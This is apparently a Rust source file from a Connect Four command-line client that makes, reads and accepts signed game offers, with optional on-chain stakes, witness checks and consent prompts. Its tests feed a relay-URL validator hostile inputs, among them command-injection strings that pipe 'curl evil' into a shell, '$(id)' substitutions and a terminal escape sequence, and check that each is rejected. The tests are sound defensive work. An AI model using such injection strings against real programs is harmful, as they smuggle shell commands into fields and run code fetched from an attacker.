//! `seek --offer` and `seek --take`: a signed game whose offer and answer are lines of text, which any messenger carries.

use std::time::Duration;

use connect4_client::signed::{
    Carrier, GameOffer, Lobby, LobbyError, Message, SignedError, SignedPlayer, Sought, Stage,
    Taker, View, as_text, of_text, rooms_at, witness_at,
};
use connect4_protocol::Address;
use connect4_protocol::signed::wire::FRESH;
use connect4_protocol::signed::{Chain, Domain, Terms};
use connect4_rules::Player;
use connect4_wire::words::now;
use tokio::time::timeout;
use url::Url;

use super::consent::Consent;
use super::sitting::{Sitting, ahead, refused};
use crate::args::Turn;
use crate::failure::Failure;
use crate::farewell::Farewell;
use crate::input::Lines;
use crate::output::Output;
use crate::play::is_yes;
use crate::play::offered::{staked_in_words, terms_in_words};
use crate::play::turn::Typed;
use crate::said::Said;
use crate::words::who;

/// For how long an offer stands, in seconds.
const STANDS: u64 = 10 * 60;
/// For how long the offer of a link stands, in seconds.
const DAY: u64 = 86_400;
/// For how long the word of the witness is waited for after terms have become too old to be agreed to.
const LATE: u64 = 60;

/// What is offered.
pub struct Offered {
    /// The board, the rule, the clock and the pool.
    pub terms: Terms,
    /// Key of the witness; none for that of the relay.
    pub witness: Option<Address>,
    pub turn: Turn,
}

/// What the command line says of the consent to an offer.
pub struct Agreeing<'a> {
    /// The most that is paid.
    pub stake: Option<&'a str>,
    pub yes: bool,
}

impl Offered {
    /// Which player the one who offers is to be.
    fn player(&self) -> Player {
        let moves_first = match self.turn {
            Turn::First => true,
            Turn::Second => false,
            Turn::Random => rand::random(),
        };
        match moves_first {
            true => Player::One,
            false => Player::Two,
        }
    }
}

/// An offer that is taken.
pub struct Taken {
    pub offer: GameOffer,
    witness: Option<Address>,
    /// None only of an offer with a stake.
    pub relay: Option<String>,
}

impl Taken {
    /// The offer of a line of text, or of a link to a page.
    pub fn read(line: &str) -> Result<Self, Failure> {
        let usage = |text: &str| Failure::Usage(text.into());
        let offer = GameOffer::from_link(line).map_err(|error| usage(&error.to_string()))?;
        let witness = offer.terms.witness;
        let has_place = offer.relay.is_some() && witness.is_some();
        if offer.terms.stake == 0 && !has_place {
            return Err(usage("the offer names no relay that is a witness"));
        }
        let plain = |relay: &String| {
            plain_url(relay)
                .ok_or_else(|| usage("what the offer names as its relay is no plain URL"))
        };
        let relay = offer.relay.as_ref().map(plain).transpose()?;
        Ok(Self {
            offer,
            witness,
            relay,
        })
    }

    /// Shows what is signed, before anything is asked of the relay, and asks whether it is wanted.
    async fn is_wanted(&self, yes: bool, out: &mut Output) -> Result<bool, Failure> {
        let mut text = terms_in_words(&self.offer);
        if let Some(relay) = &self.relay {
            text.push_str(&format!("\nrelay: {relay}"));
        }
        if let Some(witness) = self.witness {
            text.push_str(&format!("\nwitness: {witness}"));
        }
        out.say(Said::Notice(&text))?;
        if yes {
            return Ok(true);
        }
        if !out.is_terminal() {
            return Err(Failure::Usage(
                "without a terminal the program cannot ask: take the game by --yes".into(),
            ));
        }
        let question = "play this game? [y/N] ";
        out.question(question)?;
        let answer = Lines::one().await?;
        out.answered(&answer)?;
        Ok(is_yes(&answer))
    }
}

/// The URL of a relay that somebody else has named, in its normal form: a host, maybe a port and a path of letters, digits
/// and `-._~/`, and nothing that a shell or a terminal would read as more than that; none if it is another one.
fn plain_url(text: &str) -> Option<String> {
    let url = Url::parse(text).ok()?;
    let is_relay = matches!(url.scheme(), "ws" | "wss" | "http" | "https");
    let is_bare = url.username().is_empty()
        && url.password().is_none()
        && url.query().is_none()
        && url.fragment().is_none();
    let is_plain = |one: char| one.is_ascii_alphanumeric() || "-._~:/[]".contains(one);
    let text = url.as_str();
    (is_relay && is_bare && url.has_host() && text.chars().all(is_plain))
        .then(|| text.trim_end_matches('/').to_owned())
}

impl Sitting {
    /// Shows an offer of a line, and asks whether it is wanted; with a stake, as [`Self::agrees_to_pay`].
    pub async fn wants(
        &self,
        taken: &Taken,
        agreeing: &Agreeing<'_>,
        out: &mut Output,
    ) -> Result<bool, Failure> {
        match taken.offer.terms.stake {
            0 => taken.is_wanted(agreeing.yes, out).await,
            _ => self.agrees_to_pay(&taken.offer, agreeing, out).await,
        }
    }

    /// Compares an offer with the chain and the contract that are used here, shows all of it, and asks whether its stake is
    /// to be paid.
    pub async fn agrees_to_pay(
        &self,
        offer: &GameOffer,
        agreeing: &Agreeing<'_>,
        out: &mut Output,
    ) -> Result<bool, Failure> {
        let stakes = self.needed_stakes()?;
        let (here, contract) = (stakes.domain(), stakes.address());
        if offer.domain.chain != here.chain {
            return Err(Failure::Refused(
                "the offer is for another chain than the one that is used here: name that with --url".into(),
            ));
        }
        if offer.domain != here {
            return Err(Failure::Refused(format!(
                "the offer is for another contract than {contract}, whose code this program knows: nothing is paid there"
            )));
        }
        if offer.until <= now() {
            return Err(Failure::Refused(
                "the offer has ended: ask your opponent for another one".into(),
            ));
        }
        // What its taker would not be shown.
        if offer.player.is_none() {
            return Err(Failure::Refused(
                "the offer does not say who moves first: ask your opponent for one that does"
                    .into(),
            ));
        }
        let token = stakes.client().token().clone();
        let stake = token.contract_amount(offer.terms.stake);
        out.say(Said::Notice(&staked_in_words(offer, stakes)))?;
        let consent = Consent {
            what: "the stake",
            in_words: stake.clone(),
            amount: token.in_smallest_unit(offer.terms.stake),
            token: &token,
            question: format!("play this game, and pay {stake}?"),
            most: agreeing.stake,
            most_option: "--stake",
            all: "any stake",
            yes: agreeing.yes,
        };
        consent.given(out).await
    }

    /// Offers a game for a stake by a line of text. Who takes it pays, which the chain shows.
    async fn offer_for_stake(
        self,
        offered: &Offered,
        relay: String,
        out: &mut Output,
        farewell: &Farewell,
    ) -> Result<(), Failure> {
        let domain = self.needed_stakes()?.domain();
        let seeker = self.seeker();
        let party = seeker.party();
        let terms = Terms {
            nonce: rand::random(),
            ..offered.terms
        };
        let offer = GameOffer {
            player: Some(offered.player()),
            relay: Some(relay),
            ..GameOffer::new(domain, party, terms, now().saturating_add(STANDS))
        };
        out.say(Said::Notice(&format!("you are {}", who(party.account()))))?;
        let text = format!("send your opponent this line, which stands for 10 minutes:\n{offer}");
        let player = SignedPlayer::offer(seeker.around(None, 0), offer).await;
        let player = player.map_err(refused)?;
        out.say(Said::Notice(&text))?;
        self.play_on(player, &mut Typed::begin(out), out, farewell)
            .await
    }

    /// Takes an offer with a stake, which was agreed to.
    async fn take_for_stake(
        self,
        offer: GameOffer,
        out: &mut Output,
        farewell: &Farewell,
    ) -> Result<(), Failure> {
        let seeker = self.seeker();
        let taker = Taker {
            party: seeker.party(),
            session: None,
            player: Player::Two,
            is_program: self.who.is_program,
            time: now(),
            nonce: rand::random(),
        };
        let account = taker.party.account();
        out.say(Said::Notice(&format!("you are {}", who(account))))?;
        let player = SignedPlayer::take(seeker.around(None, 0), offer, &taker).await;
        let player = player.map_err(refused)?;
        self.play_on(player, &mut Typed::begin(out), out, farewell)
            .await
    }

    /// Offers a game, and plays with whose answer is typed.
    pub async fn offer(
        self,
        offered: &Offered,
        out: &mut Output,
        farewell: &Farewell,
    ) -> Result<(), Failure> {
        let relay = self.relay_for_others()?;
        if offered.terms.stake > 0 {
            return self.offer_for_stake(offered, relay, out, farewell).await;
        }
        let witness = match offered.witness {
            Some(witness) => witness,
            None => {
                let witness = self.enter().await?.witness();
                let none = || Failure::Refused(format!("{} is no witness of games", self.relay));
                witness.ok_or_else(none)?.key
            }
        };
        let (chain, time) = self.asked(witness).await?;
        let domain = Domain::without_stake(chain);
        let seeker = self.seeker();
        let party = seeker.party();
        let terms = Terms {
            witness: Some(witness),
            nonce: rand::random(),
            ..offered.terms
        };
        let offer = GameOffer {
            player: Some(offered.player()),
            session: seeker.session(time, &domain),
            relay: Some(relay),
            ..GameOffer::new(domain, party, terms, time.saturating_add(STANDS))
        };
        out.say(Said::Notice(&format!("you are {}", who(party.account()))))?;
        let text = format!("send your opponent this line, which stands for 10 minutes:\n{offer}");
        let player = SignedPlayer::offer(seeker.around(None, ahead(time)), offer)
            .await
            .map_err(refused)?;
        out.say(Said::Notice(&text))?;
        let mut typed = Typed::begin(out);
        let question = "type the line that your opponent answers with: ";
        out.question(question)?;
        let mut follow = player.follow();
        loop {
            if is_playing(&player.view()) {
                break;
            }
            tokio::select! {
                line = typed.next() => {
                    let Some(line) = line? else {
                        return Err(Failure::unfinished());
                    };
                    out.answered(&line)?;
                    let told = match of_text(&line) {
                        Some(message) if is_old(&message, &player.view()) => Err(
                            "this answer is older than two minutes: ask your opponent for another one"
                                .into(),
                        ),
                        Some(message) => player.tell(message).await.map_err(|error| error.to_string()),
                        None => Err("this is no answer: copy all of the line".into()),
                    };
                    if let Err(reason) = told {
                        out.say(Said::Notice(&reason))?;
                        out.question(question)?;
                    }
                }
                changed = follow.changed() => changed.map_err(|_| refused(SignedError::Ended))?,
            }
            if is_over(&player.view()) {
                return Err(Failure::Refused(
                    "nobody has taken the offer in time".into(),
                ));
            }
        }
        self.play_on(player, &mut typed, out, farewell).await
    }

    /// Takes an offer, and plays.
    pub async fn take(
        self,
        Taken { offer, witness, .. }: Taken,
        out: &mut Output,
        farewell: &Farewell,
    ) -> Result<(), Failure> {
        let Some(witness) = witness else {
            return self.take_for_stake(offer, out, farewell).await;
        };
        let (chain, time) = self.asked(witness).await?;
        if chain != offer.domain.chain {
            return Err(Failure::Refused(format!(
                "the offer is for another chain than {}",
                self.relay
            )));
        }
        let seeker = self.seeker();
        let party = seeker.party();
        let taker = Taker {
            party,
            session: seeker.session(time, &offer.domain),
            player: Player::Two,
            is_program: self.who.is_program,
            time,
            nonce: rand::random(),
        };
        let (carrier, mut told, _tells) = Carrier::new();
        out.say(Said::Notice(&format!("you are {}", who(party.account()))))?;
        let mut player =
            SignedPlayer::take(seeker.around(Some(carrier), ahead(time)), offer, &taker)
                .await
                .map_err(refused)?;
        if let Some(message) = told.recv().await {
            let text = as_text(&message);
            let text = format!("send your opponent this line within two minutes:\n{text}");
            out.say(Said::Notice(&text))?;
        }
        let progress = out.progress();
        progress.say("waiting for your opponent; Ctrl-C leaves");
        let begun = player.until(|view| is_playing(view) || is_late(view));
        // The word of the witness may come later than the last moment at which it takes a game.
        let last = time.saturating_add(FRESH + LATE);
        let left = last.saturating_sub(now().saturating_add_signed(ahead(time)));
        let begun = timeout(Duration::from_secs(left), begun);
        let begun = out.wait_for(begun).await?;
        progress.clear();
        let begun = begun.map_err(|_| {
            Failure::Refused(format!(
                "your opponent has not agreed to the game in time, as far as is known here. If the witness was not \
                 reachable, look again by\n  {}",
                self.resumed_by
            ))
        })?;
        let begun = begun.map_err(refused)?;
        if !is_playing(&begun) {
            return Err(Failure::Refused(
                "your opponent has not agreed to the game in time".into(),
            ));
        }
        let mut typed = Typed::begin(out);
        self.play_on(player, &mut typed, out, farewell).await
    }

    /// The offer of a link, which stands for a day.
    pub fn offer_by_link(&self, lobby: &Lobby, sought: &Sought) -> Result<GameOffer, Failure> {
        let offered = self.seeker().offer(lobby, sought, DAY);
        let offer = offered.map_err(|error| Failure::Refused(error.to_string()))?;
        // The coin's commitment is of all that an offer says.
        let key = self.who.key.key();
        let offer = GameOffer {
            relay: Some(self.relay_for_others()?),
            ..offer
        };
        Ok(match offer.coin {
            Some(_) => offer.with_coin(key),
            None => offer,
        })
    }

    fn relay_for_others(&self) -> Result<String, Failure> {
        plain_url(&rooms_at(&self.relay)).ok_or_else(|| {
            Failure::Usage("the opponent needs a plain URL of the relay: give it by --relay".into())
        })
    }

    /// For which chain the witness signs, and its time.
    async fn asked(&self, witness: Address) -> Result<(Chain, u64), Failure> {
        let relay = &self.relay;
        witness_at(relay, witness)
            .await
            .map_err(|error| match error {
                LobbyError::WrongClock(wrong) => Failure::Refused(wrong.to_string()),
                error => Failure::Other(format!(
                    "the witness {witness} at {relay} does not answer: {error}"
                )),
            })
    }
}

/// Whether terms were signed so long ago that no room takes them.
fn is_old(message: &Message, view: &View) -> bool {
    let time = match message {
        Message::Terms(signed) => signed.terms.time,
        Message::Tossed(halves) => halves[0].terms.time,
        _ => return false,
    };
    now().saturating_add_signed(view.ahead) > time.saturating_add(FRESH)
}

fn is_playing(view: &View) -> bool {
    matches!(
        view.shown.stage,
        Stage::Playing | Stage::Ending | Stage::Over
    )
}

/// Whether nobody can take the offer any more.
fn is_over(view: &View) -> bool {
    view.shown.stage == Stage::Offered && view.shown.awaited.is_none()
}

/// Whether the opponent can't agree any more.
fn is_late(view: &View) -> bool {
    view.shown.stage == Stage::NoGame
}

#[cfg(test)]
mod tests {
    use connect4_protocol::ClockSpec;
    use connect4_protocol::signed::Party;
    use connect4_rules::Shape;

    use super::*;

    /// A line that offers a game at this relay.
    fn line(relay: &str) -> String {
        let chain = Chain {
            id: 1,
            genesis: [2; 32],
        };
        let terms = Terms {
            witness: Some(Address([3; 20])),
            pool: 1,
            ..Terms::on(Shape::STANDARD)
        };
        let party = Party::Guest(Address([4; 20]));
        let offer = GameOffer::new(Domain::without_stake(chain), party, terms, 5);
        GameOffer {
            relay: Some(relay.into()),
            ..offer
        }
        .to_string()
    }

    #[test]
    fn the_relay_of_an_offer_is_a_plain_url_in_its_normal_form() {
        for (given, normal) in [
            ("ws://127.0.0.1:4404", "ws://127.0.0.1:4404"),
            ("WSS://Relay.Example:443/a-b/", "wss://relay.example/a-b"),
            ("https://relay.example", "https://relay.example"),
            ("ws://[::1]:4404/", "ws://[::1]:4404"),
        ] {
            let taken = Taken::read(&line(given)).unwrap();
            assert_eq!(taken.relay.as_deref(), Some(normal));
        }
        for given in [
            "",
            "relay.example",
            "ftp://relay.example",
            "file:///relay",
            "ws://evil.example/#; curl evil|sh #",
            "ws://evil.example/;curl$IFS-evil|sh;",
            "ws://evil.example/$(id)",
            "ws://evil.example/`id`",
            "ws://evil.example/?a=b",
            "ws://a$(id).example",
            "ws://a;id.example",
            "ws://user@evil.example",
            "ws://user:word@evil.example",
            "ws://evil.example/\u{1b}[2J",
            "ws://evil.example/'",
        ] {
            let refused = Taken::read(&line(given))
                .err()
                .map(|error| error.to_string());
            let text = refused.unwrap_or_else(|| panic!("{given:?} is taken"));
            assert!(text.ends_with("is no plain URL"), "{text}");
        }
    }

    #[test]
    fn what_is_signed_is_shown() {
        let offer: GameOffer = line("ws://relay.example").parse().unwrap();
        let offer = GameOffer {
            player: Some(Player::One),
            taker: Some(Address([6; 20])),
            terms: Terms {
                event: Some([7; 32]),
                clock: Some(ClockSpec::USUAL),
                ..offer.terms
            },
            ..offer
        };
        let words = terms_in_words(&offer);
        for part in [
            "you move second",
            "\nclock: 3:00 min for all moves and 2 s more with each\npool: ",
            "of the tournament 0707",
            "only 0x0606",
        ] {
            assert!(words.contains(part), "{part}: {words}");
        }
    }
}
